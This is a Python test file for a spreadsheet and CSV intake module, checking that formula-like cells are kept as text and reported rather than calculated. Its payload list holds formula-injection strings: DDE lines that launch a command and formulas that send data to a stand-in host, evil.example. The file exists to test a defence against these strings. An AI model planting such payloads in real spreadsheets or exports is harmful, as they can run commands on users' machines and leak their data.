"""A list with a formula in it: kept as text, told with row and column, and never calculated."""

from pathlib import Path

import openpyxl
import pytest

from guvah.intake.tables import open_table

from ..intake.lists import CSV, rows, said, write

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_a_csv(tmp_path: Path, payload: str) -> None:
    """The words stay the words; the problem names row and column."""
    quoted = '"' + payload.replace('"', '""') + '"'
    first = rows(tmp_path, CSV.replace("quiet", quoted))[0]
    assert said(first, "kept") == [payload]
    assert [str(one) for one in first.problems] == [
        "row 2 remark: a formula: kept as text, never calculated; paste the value instead"
    ]


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if one.startswith("=")])
def test_in_a_workbook(tmp_path: Path, payload: str) -> None:
    """A formula of a workbook gives its own text, whatever value was saved with it."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["id", "remark"])
    sheet.append([1, payload])
    path = tmp_path / "list.xlsx"
    book.save(path)
    (row,) = open_table(path).rows()
    assert row.cells["remark"] == payload
    assert row.problems[0].column == "remark"


def test_in_a_heading(tmp_path: Path) -> None:
    """A heading that looks like a formula is a name like any other."""
    assert open_table(write(tmp_path, "id,=1+1\n1,x\n")).columns == ("id", "=1+1")
